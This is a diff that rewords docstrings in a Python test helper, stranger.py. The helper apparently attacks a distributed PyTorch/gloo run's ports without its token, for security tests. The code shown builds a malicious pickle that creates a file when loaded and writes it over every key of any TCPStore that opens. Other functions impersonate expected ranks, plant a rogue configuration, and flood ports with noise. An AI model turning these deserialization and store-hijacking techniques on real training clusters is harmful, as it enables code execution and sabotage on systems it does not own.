@@ -1,10 +1,10 @@
-"""Someone without a run's token who can reach its ports; run as a program, or called by tests.
+"""Attacks a run's ports without its token; run as a program, or called by tests.
 
 ``stranger.py rob ADDRESS SECONDS`` connects to each port that opens and sends what gloo expects;
-``stranger.py noise ADDRESS COUNT`` sends noise to them; ``stranger.py frozen HOST PORT YAML`` puts
-a configuration (its bytes in hexadecimal) where node 1 of 2 looks for that of node 0;
-``stranger.py deface ADDRESS SECONDS FILE`` writes pickles that create a file over every key of each
-store that opens.
+``stranger.py noise ADDRESS COUNT`` sends noise to them; ``stranger.py frozen HOST PORT YAML``
+stores a configuration (its bytes in hexadecimal) under the key where node 1 of 2 looks for that of
+node 0; ``stranger.py deface ADDRESS SECONDS FILE`` overwrites every key of each store that opens
+with a pickle that creates a file.
 """
 
 from __future__ import annotations
@@ -23,7 +23,7 @@ from typing import Any
 
 
 class Bomb:
-    """What creates a file when it is unpickled."""
+    """Creates a file when it is unpickled."""
 
     def __init__(self, path: Path) -> None:
         self._path = str(path)
@@ -33,12 +33,12 @@ class Bomb:
 
 
 def bomb(path: Path) -> bytes:
-    """Return a pickle that creates a file when it is read."""
+    """Return a pickle that creates a file when it is loaded."""
     return pickle.dumps(Bomb(path))
 
 
 def listening(address: str) -> set[int]:
-    """Return the ports that are open on an address, as every user of the node can read."""
+    """Return the open ports of an address, which every user of the node can list."""
     digits = "".join(f"{int(part):02X}" for part in reversed(address.split(".")))
     rows = [row.split() for row in Path("/proc/net/tcp").read_text().splitlines()[1:]]
     return {int(row[1][9:], 16) for row in rows if row[3] == "0A" and row[1].startswith(digits)}
@@ -55,7 +55,7 @@ def _new_ports(address: str, seconds: float) -> Any:
 
 
 def rob(address: str, seconds: float) -> None:
-    """Take the place of the first ranks that gloo expects at each new port."""
+    """Connect to each new port as the first ranks that gloo expects."""
     sockets = []
     for port in _new_ports(address, seconds):
         for number in range(4):
@@ -65,7 +65,7 @@ def rob(address: str, seconds: float) -> None:
 
 
 def noise(address: str, count: int) -> None:
-    """Send noise to each new port until so many connections were made."""
+    """Send noise to each new port until ``count`` connections were made."""
     chance, sockets, made = random.Random(0), [], 0
     for port in _new_ports(address, 60):
         for _ in range(count // 4):
@@ -84,7 +84,7 @@ def noise(address: str, count: int) -> None:
 
 
 def frozen(host: str, port: int, config: str) -> None:
-    """Put a configuration where node 1 looks for that of node 0, before node 0 does."""
+    """Store a configuration where node 1 looks for that of node 0, before node 0 does."""
     import torch.distributed as dist
 
     theirs: Any = dist.TCPStore(
@@ -101,13 +101,13 @@ def frozen(host: str, port: int, config: str) -> None:
 
 
 def deface(address: str, seconds: float, victim: Path) -> None:
-    """Write over every key of each store that opens, again and again for a moment."""
+    """Overwrite every key of each store that opens, repeatedly for a moment."""
     import torch.distributed as dist
 
     payload = bomb(victim)
     for port in _new_ports(address, seconds):
         end = time.monotonic() + 3
-        with suppress(RuntimeError):  # not a store, or not any more
+        with suppress(RuntimeError):  # not a store, or closed
             theirs: Any = dist.TCPStore(
                 address,
                 port,
